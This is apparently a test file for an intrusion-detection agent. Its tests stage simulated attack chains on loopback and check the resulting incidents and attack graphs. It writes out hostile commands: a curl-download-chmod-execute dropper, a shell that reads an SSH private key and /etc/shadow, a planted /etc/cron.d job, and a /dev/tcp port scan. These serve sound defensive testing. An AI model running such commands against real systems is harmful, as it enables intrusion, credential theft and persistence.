"""The evidence store end to end (docs/evidence.md): real attack chains run under
`vigil run --rules rules --store DB` and each must become exactly one incident, with the
default rules' alerts (repeats counted, not repeated) and an attack-path graph that holds
every step in the right order:

  - a payload downloaded over loopback HTTP with curl, made executable, run; it connects out;
  - a web-server-like process that accepts a connection and spawns a shell that reads a
    private key and the password file;
  - a cron file written (with the script it names) in one session, then run by a
    cron-like daemon in another: joined through the file;
  - a loopback port scan of 1000 ports from one shell: one alert with count 1000, drawn as
    one node.

And a kill -9 of the agent during a flood leaves a store that reads and verifies, and the
next run says how many records were lost.

One agent serves the chains (each runs in its own session, as a login, a service or a cron
job would); incidents are told apart by a marker in every chain's paths and command lines.
"""
import json
import os
import shutil
import signal
import socket
import subprocess
import tempfile
import threading
import time

from vigiltest import Agent, RULES, VIGIL, check, copy_as, marker

PY = "/usr/bin/python3"
agent = None
work = None
db = None
nginx = None   # python copies named like the servers of the chains, made before the agent
cron = None    # starts (the test process itself must raise no alert: its children would
daemons = None  # join its incident), deployed under /opt as applications are (a daemon's name
               # run from elsewhere is masquerading, which the default rules report)


def setup_module():
    global agent, work, db, nginx, cron, daemons
    work = os.path.realpath(tempfile.mkdtemp(prefix=marker() + "-"))
    os.chmod(work, 0o755)
    daemons = "/opt/" + marker()
    os.makedirs(daemons)
    nginx = copy_as(daemons, os.path.realpath(PY), "nginx")
    cron = copy_as(daemons, os.path.realpath(PY), "cron")
    db = os.path.join(work, "store.db")
    agent = Agent("--rules", RULES, "--store", db, profile="sandbox").start()


def teardown_module():
    agent.stop()
    shutil.rmtree(work, ignore_errors=True)
    shutil.rmtree(daemons, ignore_errors=True)


def vigil(*args):
    """Runs a vigil analyst command; returns its stdout (JSON parsed when --format json)."""
    out = subprocess.run([VIGIL] + list(args), capture_output=True, text=True, timeout=60)
    check(out.returncode == 0, "vigil %s failed (%d): %s" % (" ".join(args), out.returncode, out.stderr))
    return json.loads(out.stdout) if "json" in args else out.stdout


def incidents_with(mark, want_rules, timeout=20.0):
    """The incidents of the store whose alerts mention mark, once every rule of want_rules
    has alerted in them (the writer commits every few milliseconds)."""
    deadline = time.time() + timeout
    while True:
        found = [i for i in vigil("incidents", "--store", db, "--all", "--format", "json")
                 if any(mark in a["output"] or mark in a["last_output"] for a in i["alerts"])]
        rules = {a["rule"] for i in found for a in i["alerts"]}
        if set(want_rules) <= rules or time.time() > deadline:
            return found
        time.sleep(0.3)


def one_incident(mark, want_rules):
    found = incidents_with(mark, want_rules)
    check(len(found) == 1, "expected one incident for %s, got %d: %s" % (
        mark, len(found), [[a["rule"] for a in i["alerts"]] for i in found]))
    inc = found[0]
    rules = {a["rule"] for a in inc["alerts"]}
    check(set(want_rules) <= rules, "incident %d lacks %s: %s" % (inc["id"], set(want_rules) - rules, rules))
    for a in inc["alerts"]:
        check(a["count"] >= 1 and a["first"] <= a["last"] and a["evidence"], a)
    return inc


def show(inc):
    return vigil("show", "--store", db, "--format", "json", str(inc["id"]))


def node(graph, kind, pred, what):
    found = [n for n in graph["nodes"] if n["kind"] == kind and pred(n)]
    check(found, "no %s node for %s in %s" % (kind, what, [n["label"] for n in graph["nodes"]]))
    return found[0]


def edge(graph, kind, src, dst):
    found = [e for e in graph["edges"] if e["kind"] == kind and e["from"] == src["id"] and e["to"] == dst["id"]]
    check(found, "no %s edge %s -> %s" % (kind, src["label"], dst["label"]))
    return found[0]


def listener():
    """A loopback TCP server the payloads connect to; returns its port."""
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    s.listen(64)

    def serve():
        while True:
            try:
                c, _ = s.accept()
                c.close()
            except OSError:
                return
    threading.Thread(target=serve, daemon=True).start()
    return s.getsockname()[1]


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def connect_line(port):
    return "%s -c 'import socket; s = socket.socket(); s.connect((\"127.0.0.1\", %d))'" % (PY, port)


def in_session(script, **kw):
    """Runs sh -c script in a new session (a login, a service, a job); returns its pid."""
    p = subprocess.Popen(["/bin/sh", "-c", script], start_new_session=True, stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL, **kw)
    p.wait(timeout=60)
    return p.pid


# ---- chain 1: download, chmod, run, connect out ----------------------------------------

def test_download_chmod_run_connect_is_one_incident():
    # the payload is an interpreter binary (as droppers fetch a static python or busybox):
    # a #! script run directly is a gap of the default rules (its name is not a shell's)
    m = marker()
    d = os.path.join(work, m)
    os.makedirs(d)
    # the attacker's server: its own session, serving a site directory (a server of a
    # temporary directory is itself reported)
    www = os.path.join(daemons, m, "www")
    os.makedirs(www)
    back = listener()
    shutil.copy2(os.path.realpath(PY), os.path.join(www, "python3"))
    port = free_port()
    server = subprocess.Popen([PY, "-m", "http.server", str(port), "--bind", "127.0.0.1", "--directory", www],
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    try:
        for _ in range(100):
            try:
                socket.create_connection(("127.0.0.1", port), timeout=1).close()
                break
            except OSError:
                time.sleep(0.1)
        payload = os.path.join(d, "python3")
        in_session("curl -s -o %s http://127.0.0.1:%d/python3 && chmod +x %s && %s"
                   % (payload, port, payload, connect_line(back).replace(PY, payload, 1)))
    finally:
        server.kill()
        server.wait()
    inc = one_incident(m, ["Dropped file executed", "Interpreter one-liner with network or exec code",
                           "Outbound connection from shell or one-liner"])
    check(inc["tactics"].index("execution") < inc["tactics"].index("command_and_control"), inc["tactics"])
    g = show(inc)["graph"]
    curl = node(g, "process", lambda n: n["comm"] == "curl" and payload in n["argv"], "curl")
    chmod = node(g, "process", lambda n: n["comm"] == "chmod", "chmod")
    ran = node(g, "process", lambda n: n["exe"] == payload, "the payload")
    f = node(g, "file", lambda n: n["path"] == payload, payload)
    web = node(g, "endpoint", lambda n: n["port"] == port, "the web server")
    c2 = node(g, "endpoint", lambda n: n["port"] == back, "the listener")
    steps = [edge(g, "connect", curl, web), edge(g, "create", curl, f), edge(g, "chmod", chmod, f),
             edge(g, "execute", f, ran), edge(g, "connect", ran, c2)]
    times = [s["first"] for s in steps]
    check(times == sorted(times), "steps out of order: %s" % list(zip([s["kind"] for s in steps], times)))
    check(ran["alerting"] and not curl["alerting"], (ran, curl))
    # the analyst's questions about the same chain
    q = vigil("query", "--store", db, "--format", "json", "file", payload)
    kinds = {e["event"] for e in q["events"]}
    check({"create_file", "chmod", "exec"} <= kinds and any(p["comm"] == "curl" for p in q["processes"]), kinds)
    q = vigil("query", "--store", db, "--format", "json", "flow", "127.0.0.1:%d" % back)
    check(any(e["event"] == "connect" and e["proc"]["exe"] == payload for e in q["events"]), q["events"])
    q = vigil("query", "--store", db, "--format", "json", "tree", curl["exec_id"])
    check([p["exec_id"] for p in q["processes"]] == [curl["exec_id"]] and q["events"], q["processes"])


# ---- chain 2: a web server's shell reads credentials --------------------------------

SERVER = """
import socket, subprocess, sys
s = socket.socket()
s.bind(("127.0.0.1", 0))
s.listen(1)
print(s.getsockname()[1], flush=True)
c, _ = s.accept()
cmd = c.recv(4096).decode()
subprocess.run(["/bin/sh", "-c", cmd])
c.close()
"""


def test_web_server_shell_reading_credentials_is_one_incident():
    m = marker()
    d = os.path.join(work, m)
    os.makedirs(os.path.join(d, ".ssh"))
    key = os.path.join(d, ".ssh", "id_rsa")
    with open(os.path.join(d, "staged"), "w") as f:  # not a key's name: no alert on the test itself
        f.write("-----BEGIN OPENSSH PRIVATE KEY-----\nfake\n")
    os.rename(os.path.join(d, "staged"), key)
    srv = subprocess.Popen([nginx, "-c", SERVER], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True,
                           start_new_session=True)
    port = int(srv.stdout.readline())
    with socket.create_connection(("127.0.0.1", port)) as c:
        c.sendall(("cat %s > /dev/null; head -c 1 /etc/shadow > /dev/null" % key).encode())
        srv.wait(timeout=30)
    inc = one_incident(m, ["Shell spawned by web server", "SSH private key read by non-SSH program"])
    g = show(inc)["graph"]
    accepted = [e for e in g["edges"] if e["kind"] == "accept"]
    check(accepted, "no accept in %s" % [n["label"] for n in g["nodes"]])
    client = node(g, "endpoint", lambda n: n["id"] == accepted[0]["from"], "the client")
    server = node(g, "process", lambda n: n["id"] == accepted[0]["to"] and n["comm"] == "nginx", "the server")
    shell = node(g, "process", lambda n: n["comm"] == "sh" and n["alerting"], "its shell")
    cat = node(g, "process", lambda n: n["comm"] == "cat" and key in n["argv"], "cat")
    k = node(g, "file", lambda n: n["path"] == key, "the key")
    steps = [edge(g, "accept", client, server), edge(g, "exec", server, shell), edge(g, "exec", shell, cat),
             edge(g, "read", cat, k)]
    times = [s["first"] for s in steps]
    check(times == sorted(times), "steps out of order: %s" % list(zip([s["kind"] for s in steps], times)))
    check(steps[-1]["evidence"], steps[-1])


# ---- chain 3: a cron file written, then run by cron ----------------------------------

CRON = """
import os, subprocess, sys
for line in open(sys.argv[1]):
    if line.strip() and not line.startswith("#"):
        cmd = line.split(None, 6)[6].strip()
        if os.fork() == 0:          # as cron runs a job: its own session, sh -c CMD
            os.setsid()
            os.execv("/bin/sh", ["/bin/sh", "-c", cmd])
        os.wait()
"""


def test_cron_job_written_then_run_is_one_incident():
    m = marker()
    d = os.path.join(work, m)
    os.makedirs(d)
    job = os.path.join(d, "job.sh")
    crontab = "/etc/cron.d/" + m
    back = listener()
    try:
        in_session("printf '#!/bin/sh\\n%s\\n' > %s && chmod +x %s && printf '* * * * * root %s\\n' > %s"
                   % (connect_line(back).replace("'", "'\\''"), job, job, job, crontab))
        subprocess.run([cron, "-c", CRON, crontab], start_new_session=True, stdout=subprocess.DEVNULL,
                       stderr=subprocess.DEVNULL, timeout=60)
    finally:
        if os.path.exists(crontab):
            os.unlink(crontab)
    inc = one_incident(m, ["Cron job written", "Program executed from temporary directory",
                           "Outbound connection from shell or one-liner"])
    check("persistence" in inc["tactics"] and "command_and_control" in inc["tactics"], inc["tactics"])
    check(len([s for s in inc["scopes"] if s["kind"] == "session"]) == 2, inc["scopes"])
    g = show(inc)["graph"]
    tab = node(g, "file", lambda n: n["path"] == crontab, "the cron file")
    script = node(g, "file", lambda n: n["path"] == job, "the job script")
    writer = [e for e in g["edges"] if e["to"] == tab["id"] and e["kind"] in ("create", "write")]
    check(writer, "nobody wrote %s in the graph" % crontab)
    ran = node(g, "process", lambda n: job in n["argv"] and n["comm"] != "chmod", "the job")
    node(g, "process", lambda n: n["comm"] == "cron" and n["context"], "the cron daemon it came from")
    steps = [writer[0], edge(g, "execute", script, ran)]
    check(steps[0]["first"] <= steps[1]["first"], steps)
    # the persistence question finds the write
    q = vigil("query", "--store", db, "--format", "json", "persistence", "--since", "10m")
    check(any(e["event"] in ("create_file", "open") and e.get("file", {}).get("path") == crontab
              for e in q["events"]), "persistence query misses %s" % crontab)


# ---- a port scan is one alert with a count -------------------------------------------

def test_port_scan_is_one_alert_with_count():
    m = marker()
    n = 1000
    base = 20000 + int.from_bytes(os.urandom(2), "little") % 30000
    in_session("# %s\nfor p in $(seq %d %d); do (echo > /dev/tcp/127.0.0.1/$p) 2>/dev/null; done" % (m, base, base + n - 1),
               executable="/bin/bash")
    rule = "Outbound connection from shell or one-liner"
    deadline = time.time() + 30
    while True:
        found = incidents_with(m, [rule])
        alerts = [a for i in found for a in i["alerts"] if a["rule"] == rule]
        if (alerts and alerts[0]["count"] >= n) or time.time() > deadline:
            break
        time.sleep(0.5)
    check(len(found) == 1, "expected one incident, got %d" % len(found))
    check(len(alerts) == 1 and alerts[0]["count"] == n, "expected one alert with count %d: %s" % (
        n, [(a["rule"], a["count"]) for a in found[0]["alerts"]]))
    g = show(found[0])["graph"]
    shells = [x for x in g["nodes"] if x["kind"] == "process" and x["count"] >= n]
    check(shells, "the %d subshells are not one node: %s" % (n, [(x["label"], x["count"]) for x in g["nodes"]][:20]))
    ports = [x for x in g["nodes"] if x["kind"] == "endpoint" and len(x["ports"]) >= n]
    check(ports and len(g["nodes"]) < 40, "the scanned ports are not one node (%d nodes)" % len(g["nodes"]))


# ---- a crash never corrupts the store, and the next run says what it lost -------------

def test_kill_9_during_a_flood_leaves_a_readable_store():
    path = os.path.join(work, "crash.db")
    flood_dir = os.path.join(work, marker())
    os.makedirs(flood_dir)
    a = Agent("--rules", RULES, "--store", path, profile="sandbox").start()
    flood = subprocess.Popen(["/bin/sh", "-c", "i=0; while [ $i -lt 100000 ]; do : > %s/f; mv %s/f %s/g; "
                              "i=$((i+1)); done" % (flood_dir, flood_dir, flood_dir)])
    try:
        time.sleep(3)
        a.proc.send_signal(signal.SIGKILL)
        a.proc.wait()
    finally:
        flood.kill()
        flood.wait()
    stats = vigil("query", "--store", path, "--format", "json", "--check", "stats")
    check(stats["check"] == "ok", stats)
    check(stats["events"] > 0 and not stats["runs"][0]["clean"], stats)
    # the next run reports the crash and accounts for it
    b = Agent("--store", path, profile="default").start()
    b.stop()
    check("stopped without closing the store" in b.stderr, b.stderr[-2000:])
    runs = vigil("query", "--store", path, "--format", "json", "stats")["runs"]
    lost = runs[0]["lost_at_crash"]
    check(isinstance(lost, int) and lost >= 0 and ("%d records it had accepted" % lost) in b.stderr,
          (runs, b.stderr[-1000:]))
    check(runs[1]["clean"] and runs[1]["committed"] > 0, runs)
